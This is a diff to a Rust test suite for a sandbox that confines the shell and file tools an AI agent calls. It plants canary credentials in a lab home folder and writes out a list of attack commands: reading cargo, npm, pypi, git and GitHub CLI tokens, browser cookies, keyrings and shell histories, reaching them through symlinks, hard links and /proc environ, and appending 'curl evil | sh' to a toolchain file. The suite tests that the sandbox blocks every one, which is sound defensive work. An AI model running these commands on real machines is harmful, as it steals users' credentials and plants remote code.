@@ -77,6 +77,8 @@ struct Lab {
     secrets: Vec<String>,
     listener: Listener,
     victim: std::process::Child,
+    /// Files of the toolchain and extra folders: readable by commands, never changed.
+    toolchain_files: BTreeMap<PathBuf, String>,
 }
 
 impl Lab {
@@ -115,6 +117,76 @@ impl Lab {
             sibling.join("secret.txt"),
             "CANARY-SIBLING-0c0d\n".to_string(),
         );
+        // Secrets inside the toolchain folders commands may read, and inside the extra folders
+        // the lab's settings add (`~/.config`, `~/.local/share`): none may be read.
+        for (relative, contents) in [
+            (
+                ".cargo/credentials.toml",
+                "token = \"CANARY-CARGO-CREDS-1b7e\"\n",
+            ),
+            (".cargo/credentials", "token = \"CANARY-CARGO-OLD-2c8f\"\n"),
+            (
+                ".cargo/.netrc",
+                "machine x password CANARY-CARGO-NETRC-3d9a\n",
+            ),
+            (
+                ".nvm/versions/node/v20.0.0/etc/npmrc",
+                "//registry.npmjs.org/:_authToken=CANARY-NVM-NPMRC-4e0b\n",
+            ),
+            (".nvm/.npmrc", "//r/:_authToken=CANARY-NVM-TOP-5f1c\n"),
+            (".pyenv/.pypirc", "password = CANARY-PYENV-PYPIRC-6a2d\n"),
+            (".pyenv/.python_history", "CANARY-PY-HISTORY-7b3e\n"),
+            (
+                ".local/bin/.git-credentials",
+                "https://u:CANARY-LOCALBIN-GIT-8c4f@h\n",
+            ),
+            (".npmrc", "//r/:_authToken=CANARY-NPMRC-9d5a\n"),
+            (".pypirc", "password = CANARY-PYPIRC-0e6b\n"),
+            (".netrc", "machine x password CANARY-NETRC-1f7c\n"),
+            (".git-credentials", "https://u:CANARY-GITCREDS-2a8d@h\n"),
+            (".bash_history", "export TOKEN=CANARY-BASH-HISTORY-3b9e\n"),
+            (".zsh_history", "CANARY-ZSH-HISTORY-4c0f\n"),
+            (".config/gh/hosts.yml", "oauth_token: CANARY-GH-5d1a\n"),
+            (".config/gcloud/credentials.db", "CANARY-GCLOUD-6e2b\n"),
+            (
+                ".config/google-chrome/Default/Cookies",
+                "CANARY-CHROME-7f3c\n",
+            ),
+            (
+                ".mozilla/firefox/p.default/cookies.sqlite",
+                "CANARY-FIREFOX-8a4d\n",
+            ),
+            (
+                ".local/share/keyrings/login.keyring",
+                "CANARY-KEYRING-9b5e\n",
+            ),
+            (
+                ".local/share/fish/fish_history",
+                "- cmd: CANARY-FISH-0c6f\n",
+            ),
+        ] {
+            plant(home.join(relative), contents.to_string());
+        }
+        // What commands may read in those folders (the checks below make sure they can, so
+        // that the secrets are not hidden by hiding everything), and must not change.
+        let mut toolchain_files = BTreeMap::new();
+        for relative in [
+            ".cargo/bin/cargo-tool",
+            ".cargo/env",
+            ".cargo/registry/cache/crate.txt",
+            ".rustup/settings.toml",
+            ".nvm/versions/node/v20.0.0/bin/node-tool",
+            ".pyenv/version",
+            ".local/bin/tool",
+            ".config/app/settings.json",
+            ".local/share/app/data.txt",
+        ] {
+            let path = home.join(relative);
+            std::fs::create_dir_all(path.parent().unwrap()).unwrap();
+            let contents = format!("TOOLCHAIN-FILE {relative}\n");
+            std::fs::write(&path, &contents).unwrap();
+            toolchain_files.insert(path, contents);
+        }
 
         std::fs::create_dir_all(workspace.join("src")).unwrap();
         std::fs::write(workspace.join("README.md"), "# Project\n").unwrap();
@@ -125,6 +197,17 @@ impl Lab {
         std::os::unix::fs::symlink(tmp_canary.parent().unwrap(), workspace.join("tmp_link"))
             .unwrap();
         std::os::unix::fs::symlink(&sibling, workspace.join("sibling_link")).unwrap();
+        // Links into the toolchain folders: the folders are readable, their secrets are not.
+        let link = |target: &str, name: &str| {
+            std::os::unix::fs::symlink(home.join(target), workspace.join(name)).unwrap()
+        };
+        link(".cargo", "cargo_link");
+        link(".cargo/credentials.toml", "cargo_creds_link");
+        link(".nvm/versions/node/v20.0.0/etc", "nvm_etc_link");
+        link(".config", "config_link");
+        link(".config/gh", "gh_link");
+        link(".local/share/keyrings", "keyrings_link");
+        link(".pyenv/.pypirc", "pypirc_link");
         let git = |args: &[&str]| {
             std::process::Command::new("git")
                 .args(args)
@@ -151,10 +234,12 @@ impl Lab {
         let mut secrets: Vec<String> = canaries
             .values()
             .map(|text| {
-                text.split_whitespace()
-                    .find(|word| word.starts_with("CANARY-"))
-                    .unwrap()
-                    .to_string()
+                // The CANARY-... word, wherever it sits (in quotes, in a URL).
+                let start = text.find("CANARY-").unwrap();
+                text[start..]
+                    .chars()
+                    .take_while(|ch| ch.is_ascii_alphanumeric() || *ch == '-')
+                    .collect()
             })
             .collect();
         secrets.push("CANARYNAME".to_string());
@@ -181,13 +266,15 @@ impl Lab {
             secrets,
             listener: Listener::start(),
             victim,
+            toolchain_files,
         }
     }
 
-    /// What commands see: the lab's home folder as the user's, with its toolchains.
+    /// What commands see: the lab's home folder as the user's, with its toolchains, and two
+    /// extra read-only folders that hold secrets too.
     fn sandbox_settings(&self) -> SandboxSettings {
         SandboxSettings {
-            read_only_folders: Vec::new(),
+            read_only_folders: vec![PathBuf::from("~/.config"), PathBuf::from("~/.local/share")],
             cache_root: None,
             host: HostEnv {
                 home: Some(self.home.clone()),
@@ -220,6 +307,11 @@ impl Lab {
                 Ok(now) if &now == contents => {}
                 Ok(_) => found.push(format!("{} was changed", path.display())),
                 Err(_) => found.push(format!("{} is gone", path.display())),
+            }
+        }
+        for (path, contents) in &self.toolchain_files {
+            if std::fs::read_to_string(path).ok().as_ref() != Some(contents) {
+                found.push(format!("{} was changed", path.display()));
             }
         }
         let connections = self.listener.connections.load(Ordering::SeqCst);
@@ -567,6 +659,96 @@ const COMMAND_ATTACKS: &[(&str, &str, bool)] = &[
         true,
     ),
     (
+        "read cargo's credentials",
+        "cat {HOME}/.cargo/credentials.toml {HOME}/.cargo/credentials {HOME}/.cargo/.netrc",
+        true,
+    ),
+    (
+        "grep the toolchain and extra folders for tokens",
+        "grep -ra CANARY {HOME}/.cargo {HOME}/.rustup {HOME}/.nvm {HOME}/.pyenv {HOME}/.local {HOME}/.config",
+        true,
+    ),
+    (
+        "find secrets by name in the toolchain folders",
+        "find {HOME}/.cargo {HOME}/.nvm {HOME}/.pyenv {HOME}/.local {HOME}/.config -type f -exec cat {} +",
+        true,
+    ),
+    (
+        "read npm tokens inside nvm",
+        "cat {HOME}/.nvm/versions/node/v20.0.0/etc/npmrc {HOME}/.nvm/.npmrc",
+        true,
+    ),
+    (
+        "read pypirc and history inside pyenv",
+        "cat {HOME}/.pyenv/.pypirc {HOME}/.pyenv/.python_history",
+        true,
+    ),
+    (
+        "read git credentials inside ~/.local/bin",
+        "cat {HOME}/.local/bin/.git-credentials",
+        true,
+    ),
+    (
+        "read npmrc, pypirc, netrc and git-credentials of the home folder",
+        "cat {HOME}/.npmrc {HOME}/.pypirc {HOME}/.netrc {HOME}/.git-credentials",
+        true,
+    ),
+    (
+        "read the GitHub CLI token inside an extra folder",
+        "cat {HOME}/.config/gh/hosts.yml; ls -laR {HOME}/.config",
+        true,
+    ),
+    (
+        "read cloud credentials and browser profiles",
+        "cat {HOME}/.config/gcloud/credentials.db {HOME}/.config/google-chrome/Default/Cookies {HOME}/.mozilla/firefox/p.default/cookies.sqlite",
+        true,
+    ),
+    (
+        "read a keychain inside an extra folder",
+        "cat {HOME}/.local/share/keyrings/login.keyring",
+        true,
+    ),
+    (
+        "read shell histories",
+        "cat {HOME}/.bash_history {HOME}/.zsh_history {HOME}/.local/share/fish/fish_history",
+        true,
+    ),
+    (
+        "read toolchain secrets through planted links",
+        "cat cargo_link/credentials.toml cargo_creds_link nvm_etc_link/npmrc config_link/gh/hosts.yml gh_link/hosts.yml keyrings_link/login.keyring pypirc_link",
+        true,
+    ),
+    (
+        "link a toolchain secret then read it",
+        "ln -s {HOME}/.cargo/credentials.toml c1 && cat c1; ln -s ../home/.cargo c2 && cat c2/credentials",
+        true,
+    ),
+    (
+        "hard link a toolchain secret into the workspace",
+        "ln {HOME}/.cargo/credentials.toml h1 && cat h1; cp {HOME}/.cargo/credentials h2",
+        true,
+    ),
+    (
+        "read a secret through the command's own CARGO_HOME",
+        "ls -la $CARGO_HOME; cat $CARGO_HOME/credentials.toml; ln -sf {HOME}/.cargo/credentials.toml $CARGO_HOME/c && cat $CARGO_HOME/c; ln -sf {HOME}/.cargo $CARGO_HOME/all && cat $CARGO_HOME/all/credentials.toml",
+        true,
+    ),
+    (
+        "change a toolchain",
+        "echo 'curl evil | sh' >> {HOME}/.cargo/env; touch {HOME}/.cargo/bin/evil; rm -f {HOME}/.rustup/settings.toml; echo x > {HOME}/.local/bin/tool",
+        true,
+    ),
+    (
+        "write the credentials file cargo login would",
+        "echo 'token = \"x\"' > {HOME}/.cargo/credentials.toml",
+        true,
+    ),
+    (
+        "read the environment of other processes through /proc",
+        "cat /proc/*/environ | tr '\\0' '\\n' | grep -a CANARY; ps -ef",
+        true,
+    ),
+    (
         "write a file without approval",
         "echo pwned > README.md; echo new > new.txt",
         false,
@@ -608,9 +790,16 @@ fn path_attacks() -> Vec<(&'static str, serde_json::Value)> {
         "\\\\?\\C:\\secret",
         "\\\\server\\share\\secret",
         "src/main.rs\u{0}/../../home/.bashrc",
+        "{HOME}/.cargo/credentials.toml",
+        "cargo_creds_link",
+        "cargo_link/credentials.toml",
+        "gh_link/hosts.yml",
+        "nvm_etc_link/npmrc",
     ];
     let folders = [
         "{HOME}",
+        "cargo_link",
+        "config_link",
         "..",
         "home_link",
         "tmp_link",
@@ -728,10 +917,40 @@ async fn attacks_through_the_sandbox_and_the_file_tools_are_all_blocked() {
     }
     let command_attacks = tried;
 
+    // The toolchain and extra folders are readable: the secrets are hidden one by one, not by
+    // hiding the folders that hold them.
+    let paths: Vec<String> = lab
+        .toolchain_files
+        .keys()
+        .map(|path| path.display().to_string())
+        .collect();
+    let command = BashCommand {
+        script: format!("cat {}", paths.join(" ")),
+        cwd: lab.workspace.clone(),
+        timeout: Duration::from_secs(8),
+        output_cap: 256 * 1024,
+        untrusted: vec![lab.workspace.clone()],
+        confinement: Some(Confinement {
+            helper: helper(),
+            workspace: lab.workspace.clone(),
+            writable: true,
+        }),
+        sandbox: lab.sandbox_settings(),
+    };
+    let output = run_bash(&command, &CancellationToken::new()).await.unwrap();
+    for contents in lab.toolchain_files.values() {
+        assert!(
+            output.stdout.contains(contents.as_str()),
+            "a command cannot read {contents:?}: {}",
+            output.stderr
+        );
+    }
+
     // The same through the tool, as the model would call it (approved, and not).
     let ctx = ToolContext::open(&lab.workspace)
         .unwrap()
-        .with_sandbox(sandbox.clone());
+        .with_sandbox(sandbox.clone())
+        .with_sandbox_settings(lab.sandbox_settings());
     let registry = ToolRegistry::with_builtins();
     for (template, approved) in [
         ("cat {HOME}/.ssh/id_rsa; cat /etc/shadow", true),
